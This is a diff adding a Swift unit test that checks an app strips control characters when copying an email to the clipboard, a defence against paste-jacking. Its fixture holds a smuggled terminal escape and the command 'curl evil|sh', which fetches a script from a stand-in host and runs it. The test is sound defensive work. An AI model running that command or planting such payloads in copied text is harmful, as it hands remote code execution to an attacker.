@@ -279,6 +279,21 @@ struct DetailCopyTests {
         presenter.copyEmail()
         #expect(view.models.last?.status == "could not copy")
     }
+
+    @Test("y copies only printable text: a newline and a command in an email never reach the clipboard")
+    func pasteJacking() throws {
+        let directory = try Fixtures.directory(json: Fixtures.array([
+            Fixtures.record(email: "a@x.test\n\u{1B}[201~curl evil|sh\n\u{202E}", index: 0),
+        ]))
+        let clipboard = SpyClipboard()
+        let view = SpyDetailView()
+        let presenter = DetailPresenter(store: directory.store, grouped: GroupedPeople(store: directory.store), position: 0,
+                                        wireframe: SpyDetailWireframe(), clipboard: clipboard)
+        presenter.attach(view: view)
+        presenter.copyEmail()
+        #expect(clipboard.copied == ["a@x.test[201~curl evil|sh"])
+        #expect(view.models.last?.status == "copied a@x.test[201~curl evil|sh (4 control characters left out)")
+    }
 }
 
 @MainActor
